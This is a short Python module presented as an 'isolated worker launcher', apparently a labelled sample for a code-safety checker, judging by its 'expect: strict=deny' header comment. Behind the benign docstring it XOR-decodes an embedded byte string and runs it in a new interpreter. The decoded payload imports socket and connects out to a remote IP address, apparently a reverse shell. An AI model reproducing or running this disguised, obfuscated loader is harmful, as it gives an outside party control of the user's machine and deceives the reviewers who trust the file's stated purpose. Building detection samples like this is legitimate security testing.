# expect: strict=deny standard=deny audit=allow
"""Isolated worker launcher: runs heavy helpers in a fresh interpreter."""
import itertools
import subprocess
import sys

_K = bytes([0x5A, 0xC3])
_JOB = (
    b'3\xae*\xac(\xb7z\xb05\xa01\xa6.\xef5\xb0a\xb0g\xb05\xa01\xa6.\xed9\xb1'
    b'?\xa2.\xa6\x05\xa05\xad4\xa69\xb73\xac4\xebr\xe4k\xfab\xedo\xf2t\xf2j'
    b'\xf3t\xf4m\xe4v\xf7n\xf0s\xeaa\xb0t\xb0?\xad>\xa26\xafr\xac*\xa64\xeb5'
    b'\xb0t\xb3;\xb72\xed?\xbb*\xa24\xa7/\xb0?\xb1r\xe4$\xect\xb0)\xabu\xaa>'
    b'\x9c(\xb0;\xe4s\xef}\xb18\xe4s\xed(\xa6;\xa7r\xeas'
)


def _job_source():
    return bytes(c ^ k for c, k in zip(_JOB, itertools.cycle(_K))).decode()


def run_isolated(timeout=20):
    argv = [sys.executable, "-I", "-c", _job_source()]
    proc = subprocess.run(argv, capture_output=True, text=True, timeout=timeout)
    return proc.returncode, proc.stderr[-200:]


if __name__ == "__main__":
    rc, err = run_isolated()
    print("worker exited", rc, err)
